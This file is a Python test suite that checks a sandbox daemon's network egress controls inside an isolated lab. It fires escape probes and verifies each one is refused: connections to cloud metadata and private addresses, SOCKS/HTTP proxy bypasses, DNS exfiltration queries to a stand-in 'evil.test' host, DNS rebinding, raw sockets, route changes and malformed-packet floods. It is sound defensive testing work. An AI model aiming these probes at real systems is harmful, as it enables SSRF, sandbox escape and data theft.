#!/usr/bin/env python3
"""SECURITY.md's network probes (16-20), run for real inside `sandboxd run --net
proxy` sandboxes in netlab.py's isolated network (sandboxd runs inside the lab's
daemon namespace, which has no route out: nothing here can reach the real
network, even if the egress is wrong).

Each attack is made by build/helpers/netprobe (tests/helpers/netprobe.c) from
inside the sandbox; the verdict combines what the client saw (SOCKS reply 0x02,
HTTP 403 "sandbox egress denied: <rule>", a reset transparent connection, EPERM)
with what only the lab can see: the listener on every target address logs each
connection and datagram, and the lab's upstream DNS logs every question, so a
denial is proven by those logs staying empty.

One line per probe, then "netprobes: N passed, N failed"."""
import os
import random
import shutil
import signal
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "integration"))
import netlab  # noqa: E402
import sbxtest  # noqa: E402
from netlab import (ALIBABA_METADATA, BENCHMARK, DAEMON, DAEMON6, DAEMON_PRIV_LINK,  # noqa: E402
                    DNS, INTERNAL, INTERNAL_172, INTERNAL_192, METADATA, NAT64_METADATA,
                    PUBLIC, SIXTOFOUR_METADATA, ULA)
from sbxtest import Suite, check  # noqa: E402

PROXY = ("--net", "proxy", "--dns-upstream", DNS)
NP = "/workspace/netprobe"
# Sandboxes map their ids to a host range of their own (as in test_probes.py), so
# "no process of the sandbox's uid is left" sees only ours.
RUNNER = 10001
# (test_probes.py uses ranges 16386..20479 * 65536; these start at 20480 * 65536.)
_first = 20480 + random.randrange(0, 20000) * 2
_bases = iter(range(_first * 65536, (_first + 400) * 65536, 2 * 65536))

for _need in (sbxtest.SANDBOXD, os.path.join(sbxtest.HELPERS, "netprobe")):
    if not os.access(_need, os.X_OK):
        print("FAIL setup: %s is missing (build first)" % _need)
        print("netprobes: 0 passed, 1 failed")
        sys.exit(1)
_help = subprocess.run([sbxtest.SANDBOXD, "run", "--help"], capture_output=True, text=True).stdout
if "proxy" not in _help or "--dns-upstream" not in _help:
    print("FAIL setup: %s run has no --net proxy / --dns-upstream yet" % sbxtest.SANDBOXD)
    print("netprobes: 0 passed, 1 failed")
    sys.exit(1)

suite = Suite("netprobes")
lab = netlab.Lab().__enter__()
WS = netlab.workspace(lab)
print("netprobes: lab %s, IPv6 %s; sandboxd %s" % (lab.tag, lab.ipv6, sbxtest.SANDBOXD))
sys.stdout.flush()

# Denied by the deny-list (or as the daemon's own addresses), each with a
# listener behind it in the lab. Port 80 everywhere; 8080 for the daemon's too.
DENIED_V4 = [(INTERNAL, 80), (INTERNAL_172, 80), (INTERNAL_192, 80), (ALIBABA_METADATA, 80),
             (METADATA, 80), (BENCHMARK, 80), (DAEMON, 80), (DAEMON, 8080),
             (DAEMON_PRIV_LINK, 80)]
DENIED_V6 = [(ULA, 80), (NAT64_METADATA, 80), (SIXTOFOUR_METADATA, 80), (DAEMON6, 80),
             ("::ffff:" + METADATA, 80), ("::ffff:" + DAEMON, 80)]
# Meaningful only through a proxy endpoint, where they name the daemon's side.
DENIED_LOOPBACK = [("127.0.0.1", 80), ("127.0.0.1", 8080), ("127.0.0.1", 1080),
                   ("127.0.0.1", 3128), ("127.0.0.1", 15001), ("127.1.2.3", 80), ("0.0.0.0", 80),
                   ("::1", 80), ("::", 80), ("fe80::1", 80)]
DENIED_NAMES = [("localhost", 80), ("rebind.test", 80), ("private.test", 80), ("meta.test", 80),
                ("daemon.test", 80), ("loop.test", 80), ("mapped.test", 80), ("rebind6.test", 80)]


def targets_v6():
    return DENIED_V6 if lab.ipv6 else [t for t in DENIED_V6 if t[0].startswith("::ffff:")]


def text(b):
    return b.decode("utf-8", "replace") if isinstance(b, bytes) else (b or "")


def sbx(script, *opts, env=None, policy=PROXY, timeout=120):
    e = {k: v for k, v in os.environ.items() if not k.startswith("CLAW_")}
    e.update(env or {})
    base = next(_bases)
    res = lab.run(["sh", "-c", script], *policy, "--host-id-base", str(base), *opts,
                  workspace=WS, env=e, timeout=timeout)
    left = []
    for _ in range(20):
        left = sbxtest.pids_of_uid(base + RUNNER) + sbxtest.pids_of_uid(base)
        if not left:
            break
        time.sleep(0.1)
    for pid in left:  # ours: this sandbox's processes, outliving a dead sandboxd
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    if res.code is not None and res.code < 0:
        check(False, "sandboxd itself died by signal %d (%s)%s" % (
            -res.code, signal.Signals(-res.code).name,
            "; processes of the sandbox left on the host: %r" % left if left else ""), res)
    check(not left, "processes of the sandbox's uid left on the host: %r" % left, res)
    check(b"Sanitizer" not in res.stderr, "sandboxd's sanitizers reported an error:\n%s" %
          text(res.stderr)[-3000:])
    check(res.report is not None and "outcome" in res.report, "sandboxd wrote no report", res)
    check(res.report["outcome"] == "exited" and res.report["exitCode"] == 0,
          "the probe did not run to its end: outcome %r exit %r" %
          (res.report["outcome"], res.report.get("exitCode")), res)
    return res


def lines(res, kind):
    return [f for f in netlab.facts(res.stdout) if f["kind"] == kind]


def args(pairs):
    return " ".join("%s %d" % (h, p) for h, p in pairs)


def nothing_arrived(mark, what):
    """No listener saw a connection or datagram, and the lab DNS no question."""
    got = lab.arrivals(since=mark)
    check(not got, "ESCAPED (%s): the lab saw %s" % (
        what, "; ".join("%s %s %s:%s from %s" % (e["srv"], e["ev"], e.get("local"), e.get("lport"),
                                                   e.get("peer")) for e in got[:8])))


def no_connection_arrived(mark, what):
    got = lab.events(since=mark, ev=("accept", "udp"))
    check(not got, "ESCAPED (%s): the lab saw %s" % (
        what, "; ".join("%s %s:%s" % (e["srv"], e.get("local"), e.get("lport")) for e in got[:8])))


def expect_each(items, ok, what, res):
    bad = [f["line"] for f in items if not ok(f)]
    check(items, "%s: the probe printed nothing" % what, res)
    check(not bad, "%s, not refused as promised:\n    %s" % (what, "\n    ".join(bad)), res)


def tcp_reset(f):
    if f.get("connect") in ("ECONNREFUSED", "ECONNRESET"):
        return True
    return f.get("connect") == "ok" and f.get("recv") == "0" and (
        f.get("end") == "ECONNRESET" or f.get("sent") in ("ECONNRESET", "EPIPE"))


def tcp_not_through(f):
    """Weaker: whatever happened, no byte came back from a target."""
    return f.get("connect") != "ok" or f.get("recv") == "0"


def socks_denied(f):
    return f.get("greet") == "00" and f.get("reply") == "02"


def http_denied(f):
    return f.get("status") == "403" and f.get("body", "").startswith("sandbox egress denied: ")


# --- 16 ------------------------------------------------------------------------------

@suite.case
def p16_transparent_connect_to_private_metadata_own_addresses_reset():
    mark = lab.mark()
    targets = DENIED_V4 + targets_v6()
    res = sbx(NP + " tcp " + args(targets))
    t = lines(res, "tcp")
    check(len(t) == len(targets), "%d results for %d targets" % (len(t), len(targets)), res)
    no_connection_arrived(mark, "raw connect")
    check(all(tcp_not_through(f) for f in t), "ESCAPED: bytes came back: %r" % t, res)
    expect_each(t, tcp_reset, "transparent connections", res)
    # An address the policy denies outright is refused at connect by the
    # sandbox's rules (ECONNREFUSED, before the redirect, so no flow); what
    # reaches the transparent listener (an IPv4 address embedded in IPv6)
    # is denied there, a deny flow each.
    refused = [f for f in t if f.get("connect") == "ECONNREFUSED"]
    check(any(f["target"] == "10.0.0.1" for f in refused), "the deny-list refused at connect", t)
    fl = [f for f in res.report["network"]["flows"] if f["via"] == "transparent"]
    check(all(f["verdict"] == "deny" for f in fl) and len(fl) + len(refused) >= len(targets),
          "transparent deny flows: %r" % fl, res)


@suite.case
def p16_transparent_to_the_sandboxs_own_loopback_and_link_local_stays_inside():
    mark = lab.mark()
    extra = [("::1", 80), ("fe80::1%lo", 80), ("127.0.0.1", 15001), ("::1", 15001)] \
        if lab.ipv6 else [("127.0.0.1", 15001)]
    res = sbx(NP + " tcp 127.0.0.1 80 127.0.0.1 8080 " + args(extra))
    t = lines(res, "tcp")
    check(len(t) == 2 + len(extra), "results: %r" % t, res)
    no_connection_arrived(mark, "loopback inside the sandbox")
    check(all(tcp_not_through(f) for f in t), "ESCAPED: bytes came back: %r" % t, res)


@suite.case
def p16_socks5_to_private_metadata_loopback_own_addresses_reply_02():
    mark = lab.mark()
    targets = DENIED_V4 + targets_v6() + DENIED_LOOPBACK
    res = sbx(NP + " socks " + args(targets))
    s = lines(res, "socks")
    check(len(s) == len(targets), "%d results for %d targets" % (len(s), len(targets)), res)
    no_connection_arrived(mark, "SOCKS5 by address")
    expect_each(s, socks_denied, "SOCKS5 CONNECT", res)


@suite.case
def p16_socks5_names_of_denied_addresses_reply_02():
    mark = lab.mark()
    res = sbx(NP + " socks " + args(DENIED_NAMES + [("2852039166", 80), ("0x7f000001", 80),
                                                  ("127.1", 80), ("0", 80)]))
    s = lines(res, "socks")
    no_connection_arrived(mark, "SOCKS5 by name")
    named = s[:len(DENIED_NAMES)]
    expect_each(named, socks_denied, "SOCKS5 CONNECT by name", res)
    # Numeric spellings that are no DNS names: refused one way or another.
    odd = s[len(DENIED_NAMES):]
    check(all(f.get("reply") not in ("00", None) for f in odd), "odd spellings: %r" % odd, res)


@suite.case
def p16_http_connect_and_absolute_form_to_denied_targets_403():
    mark = lab.mark()
    targets = DENIED_V4 + targets_v6() + DENIED_LOOPBACK + DENIED_NAMES
    res = sbx(NP + " connect " + args(targets) + "; " + NP + " get " + args(targets))
    c, g = lines(res, "connect"), lines(res, "get")
    check(len(c) == len(targets) and len(g) == len(targets), "results %d/%d" % (len(c), len(g)),
          res)
    no_connection_arrived(mark, "HTTP proxy")
    expect_each(c, http_denied, "HTTP CONNECT", res)
    expect_each(g, http_denied, "HTTP absolute-form GET", res)


@suite.case
def p16_http_connect_to_the_metadata_address_403_names_the_rule():
    mark = lab.mark()
    res = sbx(NP + " connect %s 80 %s 80 %s 80" % (METADATA, ALIBABA_METADATA, "rebind.test"))
    c = lines(res, "connect")
    expect_each(c, http_denied, "CONNECT to metadata", res)
    fl = [f for f in res.report["network"]["flows"] if f["via"] == "http"]
    check(len(fl) == 3 and all(f["verdict"] == "deny" and
                               c[i]["body"] == "sandbox egress denied: " + f["rule"]
                               for i, f in enumerate(fl)),
          "403 bodies %r vs flows %r" % ([x["body"] for x in c], fl), res)
    no_connection_arrived(mark, "metadata CONNECT")


@suite.case
def p16_a_forged_host_header_does_not_open_a_transparent_connection():
    # Only an address our DNS answered for an allowed name matches a name rule;
    # a Host header (or SNI) naming it proves nothing.
    mark = lab.mark()
    res = sbx("NETPROBE_HOST=public.test " + NP + " tcp %s 80 %s 80" % (PUBLIC, METADATA),
              "--default", "deny", "--allow", "public.test")
    t = lines(res, "tcp")
    no_connection_arrived(mark, "forged Host")
    expect_each(t, tcp_reset, "transparent connections claiming Host: public.test", res)


@suite.case
def p16_net_none_has_no_route_at_all():
    mark = lab.mark()
    res = sbx(NP + " tcp " + args(DENIED_V4[:6] + [(PUBLIC, 80)]) + "; " + NP + " socks " +
              args([(PUBLIC, 80)]), policy=("--net", "none"))
    t = lines(res, "tcp")
    expect_each(t, lambda f: f.get("connect") == "ENETUNREACH", "--net none connect", res)
    check(lines(res, "socks")[0].get("proxy") == "ECONNREFUSED", "a SOCKS endpoint in none", res)
    nothing_arrived(mark, "--net none")


# --- 17 ------------------------------------------------------------------------------

@suite.case
def p17_udp_anywhere_but_the_sandbox_dns_fails_eperm():
    mark = lab.mark()
    udp = [(PUBLIC, 9999), (PUBLIC, 123), (DNS, 53), (INTERNAL, 53), (METADATA, 9999),
           (DAEMON, 9999), (DAEMON, 53)]
    if lab.ipv6:
        udp += [(netlab.PUBLIC6, 9999), (ULA, 53), ("::ffff:" + PUBLIC, 9999)]
    res = sbx(NP + " udp " + args(udp) + "; " + NP + " dns public.test A")
    u = lines(res, "udp")
    check(len(u) == len(udp), "results %r" % u, res)
    check(all(f.get("reply") == "none" for f in u), "ESCAPED: a UDP reply came back: %r" % u, res)
    expect_each(u, lambda f: f.get("sendto") == "EPERM" and f.get("send", "EPERM") == "EPERM",
                "UDP", res)
    d = lines(res, "dns")[0]
    check(d.get("rcode") == "NOERROR" and d.get("addrs") == PUBLIC,
          "the sandbox's DNS (the one UDP way out) stopped working: %r" % d, res)
    check(not lab.events(since=mark, ev="udp"), "ESCAPED: UDP datagrams reached the lab: %r" %
          lab.events(since=mark, ev="udp", settle=0))
    q = lab.dns_queries(since=mark, settle=0)
    check(all(e.get("name") == "public.test" and e["peer"] == DAEMON for e in q),
          "ESCAPED: the lab DNS got %r" % q)


@suite.case
def p17_raw_packet_and_icmp_sockets_fail():
    mark = lab.mark()
    res = sbx(NP + " sockets")
    s = lines(res, "socket")
    expect_each(s, lambda f: f.get("result") in ("EPERM", "EACCES", "EAFNOSUPPORT"),
                "raw/packet sockets", res)
    p = lines(res, "ping")
    check(p, "ping sockets not tried", res)
    check(all(f.get("reply") in (None, "none") for f in p), "ESCAPED: ICMP replies: %r" % p, res)
    nothing_arrived(mark, "raw sockets")
    pk = lab.packets()
    if pk is not None:
        print("  lab counters after: %r" % pk)


# --- 18 ------------------------------------------------------------------------------

EXFIL_LABEL = "c2VjcmV0LWRhdGEtdGhhdC1zaG91bGQtbmV2ZXItbGVhdmUtdGhlLXNhbmRib3gtMTIz"[:63]
LONG_NAME = ".".join([EXFIL_LABEL] * 3) + ".evil.test"


@suite.case
def p18_dns_exfiltration_default_deny_refused_nothing_forwarded():
    mark = lab.mark()
    queries = [(LONG_NAME, "A"), (LONG_NAME, "AAAA"), (EXFIL_LABEL + ".evil.test", "TXT"),
               ("evil.test", "MX"), ("x." + EXFIL_LABEL + ".evil.test", "NULL"),
               ("_x._tcp.evil.test", "SRV"), ("public.test", "TXT"), ("public.test", "ANY"),
               ("public.test", "MX"), ("public.test", "HTTPS"), ("other.test", "A"),
               ("10.0.0.10.in-addr.arpa", "PTR"), ("evil.test", "CNAME")]
    res = sbx(NP + " dns " + " ".join("%s %s" % q for q in queries) + " public.test A",
              "--default", "deny", "--allow", "public.test")
    d = lines(res, "dns")
    check(len(d) == len(queries) + 1, "results %r" % d, res)
    expect_each(d[:-1], lambda f: f.get("rcode") == "REFUSED", "DNS questions", res)
    check(d[-1].get("rcode") == "NOERROR" and d[-1].get("addrs") == PUBLIC,
          "the allowed name is not answered: %r" % d[-1], res)
    q = lab.dns_queries(since=mark)
    leaked = [e for e in q if not (e.get("name") == "public.test" and e.get("type") in ("A",
                                                                                         "AAAA"))]
    check(not leaked, "ESCAPED: forwarded upstream: %r" % [(e.get("name"), e.get("type"))
                                                           for e in leaked])
    no_connection_arrived(mark, "DNS")


@suite.case
def p18_dns_only_addresses_even_for_allowed_names_and_denied_suffixes():
    mark = lab.mark()
    res = sbx(NP + " dns public.test TXT public.test ANY public.test NULL public.test SRV "
              "%s A %s TXT public.test A" % (LONG_NAME, EXFIL_LABEL + ".evil.test"),
              "--deny", "*.evil.test")
    d = lines(res, "dns")
    check(len(d) == 7, "results %r" % d, res)
    expect_each(d[:6], lambda f: f.get("rcode") == "REFUSED", "DNS questions (default allow)",
                res)
    check(d[6].get("rcode") == "NOERROR", "public.test A: %r" % d[6], res)
    q = lab.dns_queries(since=mark)
    leaked = [(e.get("name"), e.get("type")) for e in q if e.get("type") not in ("A", "AAAA") or
              "evil" in e.get("name", "")]
    check(not leaked, "ESCAPED: forwarded upstream: %r" % leaked)


@suite.case
def p18_malformed_dns_packets_leave_the_dns_endpoint_serving():
    # Datagrams shorter than a DNS header (an empty one, 6 bytes) are the
    # interesting ones: libevent 2.1.12's evdns server (request_parse) jumps to
    # its error path before it has a request and dereferences NULL there
    # (libevent issue #1231).
    mark = lab.mark()
    res = sbx(NP + " dns-junk; " + NP + " dns public.test A")
    j = lines(res, "dnsjunk")
    check(len(j) >= 8, "junk cases %r" % j, res)
    d = lines(res, "dns")[0]
    check(d.get("rcode") == "NOERROR" and d.get("addrs") == PUBLIC,
          "the DNS endpoint stopped answering after malformed packets: %r" % d, res)
    q = lab.dns_queries(since=mark)
    check(all(e.get("name") == "public.test" and e.get("type") in ("A", "AAAA") for e in q),
          "malformed or non-address questions forwarded: %r" % q)


@suite.case
def p18_short_packets_after_a_dns_flood_leave_the_endpoint_serving():
    # A flood makes the endpoint plug its socket for a moment; unplugged, the
    # short-packet filter must be back (it once was not, and one short datagram
    # then crashed the daemon, and with it the egress of every sandbox).
    res = sbx(NP + " dns-flood 3000; sleep 0.3; " + NP + " dns-junk empty short-header; sleep 0.3; "
              + NP + " dns public.test A")
    f = lines(res, "dnsflood")
    check(len(f) == 1 and int(f[0].get("sent", 0)) > 256, "the flood went out: %r" % f, res)
    d = lines(res, "dns")[-1]
    check(d.get("rcode") == "NOERROR" and d.get("addrs") == PUBLIC,
          "the DNS endpoint stopped answering after a flood and short packets: %r" % d, res)


# --- 19 ------------------------------------------------------------------------------

@suite.case
def p19_dns_rebinding_allowed_name_denied_address_refused_at_connect():
    mark = lab.mark()
    names = ["rebind.test", "private.test", "meta.test", "daemon.test", "loop.test"]
    if lab.ipv6:
        names += ["rebind6.test", "mapped.test"]
    pairs = [(n, 80) for n in names]
    res = sbx(NP + " dns " + " ".join("%s A %s AAAA" % (n, n) for n in names) + "; " +
              "getent ahosts rebind.test; " +
              NP + " tcp %s 80; " % METADATA +
              NP + " socks " + args(pairs) + "; " + NP + " connect " + args(pairs) + "; " +
              NP + " get " + args(pairs))
    no_connection_arrived(mark, "rebinding")
    t = lines(res, "tcp")
    expect_each(t, tcp_reset, "transparent connect to rebind.test's address", res)
    expect_each(lines(res, "socks"), socks_denied, "SOCKS5 to rebinding names", res)
    expect_each(lines(res, "connect"), http_denied, "CONNECT to rebinding names", res)
    expect_each(lines(res, "get"), http_denied, "GET to rebinding names", res)


@suite.case
def p19_rebinding_even_when_the_name_is_explicitly_allowed():
    mark = lab.mark()
    res = sbx("getent ahosts rebind.test; " + NP + " tcp %s 80; " % METADATA +
              NP + " socks rebind.test 80 private.test 80; " +
              NP + " connect rebind.test 80",
              "--default", "deny", "--allow", "rebind.test", "--allow", "private.test:80")
    no_connection_arrived(mark, "rebinding with an allow rule")
    expect_each(lines(res, "tcp"), tcp_reset, "transparent", res)
    expect_each(lines(res, "socks"), socks_denied, "SOCKS5", res)
    expect_each(lines(res, "connect"), http_denied, "CONNECT", res)


# --- 20 ------------------------------------------------------------------------------

@suite.case
def p20_nftables_and_routes_cannot_be_changed_and_the_rules_still_hold():
    mark = lab.mark()
    res = sbx("cat /proc/net/route /proc/net/ipv6_route > /tmp/before; " + NP + " netconfig; "
              "cat /proc/net/route /proc/net/ipv6_route > /tmp/after; "
              "cmp -s /tmp/before /tmp/after && echo routes=unchanged || echo routes=changed; "
              + NP + " tcp %s 80 %s 80" % (METADATA, PUBLIC))
    n = {f["op"]: f["result"] for f in lines(res, "nl")}
    changes = {k: v for k, v in n.items() if k != "nft-list-tables"}
    check(len(changes) >= 9, "netconfig ops %r" % n, res)
    # Routes are refused by the missing capability (EPERM); nfnetlink is
    # already refused by seccomp, which lets netlink speak only the route
    # protocol (EPROTONOSUPPORT).
    want = {k: "EPROTONOSUPPORT" if k.startswith("nft-") else "EPERM" for k in changes}
    bad = {k: v for k, v in changes.items() if v != want[k]}
    check(not bad, "network configuration changes not refused as expected: %r" % bad, res)
    check("routes=unchanged" in text(res.stdout), "the routing table changed", res)
    t = lines(res, "tcp")
    check(tcp_reset(t[0]), "after the attempts the metadata address is not reset: %r" % t[0], res)
    check(t[1].get("connect") == "ok" and "netlab pub" in t[1].get("body", ""),
          "after the attempts the egress no longer works: %r" % t[1], res)
    check(not lab.events(since=mark, ev="accept", srv="priv"), "ESCAPED: metadata reached")


# --- the endpoints under malformed input ------------------------------------------------

@suite.case
def socks5_malformed_and_truncated_requests_then_a_good_client_is_served():
    mark = lab.mark()
    res = sbx(NP + " socks-junk; " + NP + " socks public.test 80", timeout=180)
    j = {f["case"]: f for f in lines(res, "socksjunk")}
    check(len(j) >= 25, "junk cases run: %r" % sorted(j), res)
    # reply: the method selection (05 00), then 05 REP 00 ATYP ... for the request.
    for case in ("request-bind", "request-udp-associate", "request-bad-cmd"):
        rep = j[case].get("reply", "-")
        check(rep[:6] == "050005" and rep[6:8] == "07",
              "%s: reply %r, expected 05 00, then 05 07 (command not supported)" % (case, rep),
              res)
    for case in ("request-domain-metadata-ip", "request-domain-ipv6-literal", "request-port-0"):
        rep = j[case].get("reply", "-")
        check(rep[:6] == "050005" and rep[6:8] not in ("00", ""),
              "%s: reply %r, expected a refusal" % (case, rep), res)
    check(j["request-domain-metadata-ip"]["reply"][6:8] == "02",
          "a domain that is the metadata address, not refused by the policy (0x02): %r" %
          j["request-domain-metadata-ip"], res)
    s = lines(res, "socks")[0]
    check(s.get("reply") == "00" and "netlab pub %s:80" % PUBLIC in s.get("body", ""),
          "after the junk, a good SOCKS5 client is not served: %r" % s, res)
    acc = lab.events(since=mark, ev="accept")
    check(all(e["srv"] == "pub" and e["local"] == PUBLIC for e in acc),
          "ESCAPED: junk reached %r" % [(e["srv"], e["local"], e["lport"]) for e in acc])
    # And sandboxd itself is fine: a new sandbox right after works.
    res2 = sbx(NP + " socks public.test 80")
    check(lines(res2, "socks")[0].get("reply") == "00", "next sandbox", res2)


@suite.case
def http_proxy_malformed_requests_then_a_good_client_is_served():
    mark = lab.mark()
    res = sbx(NP + " http-junk; " + NP + " get public.test 80; " + NP + " connect public.test 80",
              timeout=180)
    j = {f["case"]: f for f in lines(res, "httpjunk")}
    check(len(j) >= 17, "junk cases run: %r" % sorted(j), res)
    for case in ("url-metadata-host-public", "url-userinfo-metadata", "connect-userinfo"):
        first = j[case].get("first", "")
        check(not first.startswith("HTTP/1.1 200") and not first.startswith("HTTP/1.0 200"),
              "%s got %r" % (case, first), res)
    check(j["url-metadata-host-public"].get("first", "").split(" ")[1:2] == ["403"],
          "GET http://169.254.169.254/ with a public Host header: %r" %
          j["url-metadata-host-public"], res)
    g, c = lines(res, "get")[0], lines(res, "connect")[0]
    check(g.get("status") == "200" and c.get("status") == "200",
          "after the junk, good HTTP proxy clients are not served: %r %r" % (g, c), res)
    acc = lab.events(since=mark, ev="accept")
    check(all(e["srv"] == "pub" for e in acc),
          "ESCAPED: junk reached %r" % [(e["srv"], e["local"], e["lport"]) for e in acc])


try:
    suite.finish()
finally:
    lab.__exit__(None, None, None)
    shutil.rmtree(WS, ignore_errors=True)
